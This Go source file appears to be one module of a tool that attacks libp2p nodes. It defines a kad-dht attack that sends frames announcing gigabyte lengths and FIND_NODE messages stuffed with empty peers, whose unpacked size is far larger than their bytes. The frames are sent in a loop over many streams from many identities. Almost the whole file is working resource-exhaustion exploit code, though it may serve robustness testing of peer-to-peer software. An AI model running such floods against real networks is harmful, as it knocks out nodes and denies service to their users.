package main

import (
	"bytes"
	"context"
	"encoding/binary"

	"github.com/libp2p/go-libp2p/core/network"
)

// attackKad sends kad-dht frames that announce gigabytes, and long ones that are full of empty
// peers, each of which takes fifty times its bytes unpacked.
var attackKad = attack{
	name: "kad", does: "frames of kad-dht that announce gigabytes, or are full of empty peers",
	make: func(ctx context.Context, t *target) error {
		peers := func(size int) []byte { // FIND_NODE, a key, and then empty peers
			raw := append([]byte{1 << 3, 4, 2<<3 | 2, 4, 'k', 'e', 'y', 's'}, bytes.Repeat([]byte{8<<3 | 2, 0}, size/2)...)
			return append(binary.AppendUvarint(nil, uint64(len(raw))), raw...)
		}
		frames := [][]byte{peers(1000), peers(16000), peers(4 << 20), binary.AppendUvarint(nil, 4<<20), binary.AppendUvarint(nil, 1<<40)}
		return t.crowd(ctx, identities, func(s *stranger) {
			n := 0
			s.streams(ctx, 4, kadID, func(st network.Stream) {
				n++ // by several at once, which does no harm
				for {
					if _, err := st.Write(frames[n%len(frames)]); err != nil {
						return
					}
					if err := readFrame(st); err != nil {
						return
					}
				}
			})
		})
	},
}
